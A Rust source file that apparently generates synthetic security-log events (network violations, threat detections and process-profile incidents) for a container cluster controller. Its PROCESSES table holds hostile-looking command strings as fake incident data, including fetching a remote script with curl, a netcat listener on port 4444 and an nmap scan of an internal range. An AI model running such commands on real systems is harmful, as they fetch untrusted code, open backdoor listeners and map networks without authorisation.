//! What happens in a cluster in the controller's own shapes: some 10,000 things, thirty of them at a time and each of
//! those again and again.

use controller_api::security_log::{Incident, Threat, Violation};
use event_log::{Kind, Moment};

use crate::cluster::{mixed, one_of, outside, pod, uuid};

/// Threats: name, message, number, severity, level.
const THREATS: [(&str, &str, u32, &str, &str); 6] = [
    ("SQL.Injection", "SQL injection, HTTP GET parameter", 2022, "High", "Error"),
    (
        "Apache.Struts.Remote.Code.Execution",
        "Apache Struts remote code execution",
        2023,
        "Critical",
        "Critical",
    ),
    ("TCP.SYN.Flood", "TCP SYN flood", 1001, "Medium", "Warning"),
    ("SSL.TLS1.0", "TLS 1.0 session", 2012, "Low", "Notice"),
    ("HTTP.Request.Slowloris", "Slowloris", 2015, "Medium", "Warning"),
    ("DNS.Tunneling", "DNS tunneling", 2024, "High", "Error"),
];

/// Processes that should not run: name, file, command line.
const PROCESSES: [(&str, &str, &str); 6] = [
    ("curl", "/usr/bin/curl", "curl -s http://203.0.113.9/x.sh"),
    ("bash", "/bin/bash", "bash -c id"),
    ("nc", "/bin/nc", "nc -l -p 4444"),
    ("nmap", "/usr/bin/nmap", "nmap -sT 10.42.0.0/16"),
    ("apt-get", "/usr/bin/apt-get", "apt-get install -y netcat"),
    ("python3", "/usr/bin/python3", "python3 -m http.server"),
];

/// Something that happened.
pub struct Happening {
    /// The log that it is in.
    pub kind: Kind,
    /// Its UUID.
    pub id: String,
    /// When, in unix seconds.
    pub at: i64,
    /// As the controller says it.
    pub json: String,
}

/// The entry of this number, at a time in unix seconds: six of ten are violations, two threats, two incidents.
pub fn happening(number: u64, at: i64) -> serde_json::Result<Happening> {
    // What goes on goes on for 200 entries.
    let what = mixed(number / 200 * 30 + mixed(number, 1) % 30, 2) % 10_000;
    let id = uuid(number);
    let (kind, json) = match mixed(what, 3) % 10 {
        0..6 => (Kind::Violation, serde_json::to_value(violation(what, number, &id, at))?),
        6 | 7 => (Kind::Threat, serde_json::to_value(threat(what, number, &id, at))?),
        _ => (Kind::Incident, serde_json::to_value(incident(what, number, &id, at))?),
    };
    Ok(Happening { kind, id, at, json: json.to_string() })
}

fn violation(what: u64, number: u64, id: &str, at: i64) -> Violation {
    let (client, server) = match mixed(what, 4) % 8 {
        0 | 1 => (outside(what), pod(mixed(what, 6))),
        2 => (pod(mixed(what, 5)), outside(what)),
        _ => (pod(mixed(what, 5)), pod(mixed(what, 6))),
    };
    let (_, application, port) = server.part;
    let own = if server.node.is_some() { &server } else { &client };
    let [host_id, host_name, enforcer_id, enforcer_name] = own.reporter();
    let denied = mixed(what, 7).is_multiple_of(3);
    Violation {
        id: id.to_owned(),
        level: if denied { "Critical" } else { "Warning" }.to_owned(),
        reported_timestamp: at,
        reported_at: Moment::At(at).text(),
        cluster_name: "cluster.local".to_owned(),
        host_id,
        host_name,
        enforcer_id,
        enforcer_name,
        client_id: client.id,
        client_name: client.name,
        client_domain: client.namespace,
        client_image: client.image.to_owned(),
        client_service: client.service,
        client_ip: client.address,
        server_id: server.id,
        server_name: server.name,
        server_domain: server.namespace,
        server_image: server.image.to_owned(),
        server_service: server.service,
        server_ip: server.address,
        server_port: port,
        ip_proto: 6,
        applications: vec![application.to_owned()],
        servers: vec![String::new()],
        sessions: 1 + (mixed(number, 8) % 30) as u32,
        policy_action: if denied { "deny" } else { "violate" }.to_owned(),
        ..Violation::default()
    }
}

fn threat(what: u64, number: u64, id: &str, at: i64) -> Threat {
    let inside = mixed(what, 4).is_multiple_of(3);
    let client = if inside { pod(mixed(what, 5)) } else { outside(what) };
    let server = pod(mixed(what, 6));
    let (name, message, threat_id, severity, level) = THREATS[one_of(what, 7, THREATS.len())];
    let (_, application, port) = server.part;
    let [host_id, host_name, enforcer_id, enforcer_name] = server.reporter();
    let monitor = !mixed(what, 8).is_multiple_of(3);
    Threat {
        id: id.to_owned(),
        name: name.to_owned(),
        level: level.to_owned(),
        reported_timestamp: at,
        reported_at: Moment::At(at).text(),
        cluster_name: "cluster.local".to_owned(),
        host_id,
        host_name,
        enforcer_id,
        enforcer_name,
        threat_id,
        client_workload_id: client.id,
        client_workload_name: client.name,
        client_workload_domain: client.namespace,
        client_workload_image: client.image.to_owned(),
        client_workload_service: client.service,
        server_workload_id: server.id,
        server_workload_name: server.name,
        server_workload_domain: server.namespace,
        server_workload_image: server.image.to_owned(),
        server_workload_service: server.service,
        severity: severity.to_owned(),
        action: if monitor { "alert" } else { "deny" }.to_owned(),
        count: 1 + (mixed(number, 8) % 6) as u32,
        ether_type: 2048,
        client_ip: client.address,
        client_port: 32_768 + (mixed(number, 9) % 28_000) as u16,
        server_ip: server.address,
        server_port: port,
        server_conn_port: port,
        ip_proto: 6,
        application: application.to_owned(),
        target: "server".to_owned(),
        monitor,
        cap_len: Some(96),
        message: message.to_owned(),
        ..Threat::default()
    }
}

fn incident(what: u64, number: u64, id: &str, at: i64) -> Incident {
    let end = pod(mixed(what, 5));
    let (name, path, command) = PROCESSES[one_of(what, 6, PROCESSES.len())];
    let [host_id, host_name, enforcer_id, enforcer_name] = end.reporter();
    let denied = mixed(what, 7).is_multiple_of(4);
    Incident {
        id: id.to_owned(),
        name: "Process.Profile.Violation".to_owned(),
        level: if denied { "Critical" } else { "Warning" }.to_owned(),
        reported_timestamp: at,
        reported_at: Moment::At(at).text(),
        cluster_name: "cluster.local".to_owned(),
        host_id,
        host_name,
        enforcer_id,
        enforcer_name,
        group: format!("nv.{}", end.service),
        workload_id: end.id,
        workload_name: end.name,
        workload_domain: end.namespace,
        workload_image: format!("registry.demo.example/crowd/{}:1.{}.0", end.part.0, what % 20),
        workload_service: end.service,
        proc_name: name.to_owned(),
        proc_path: path.to_owned(),
        proc_cmd: command.to_owned(),
        proc_effective_user: "root".to_owned(),
        proc_parent_name: "bash".to_owned(),
        proc_parent_path: "/bin/bash".to_owned(),
        action: if denied { "deny" } else { "violate" }.to_owned(),
        rule_id: "00000000-0000-0000-0000-000000000003".to_owned(),
        aggregation_from: Some(at - 5),
        count: Some(1 + (mixed(number, 8) % 4) as u32),
        message: "Process profile violation".to_owned(),
        ..Incident::default()
    }
}
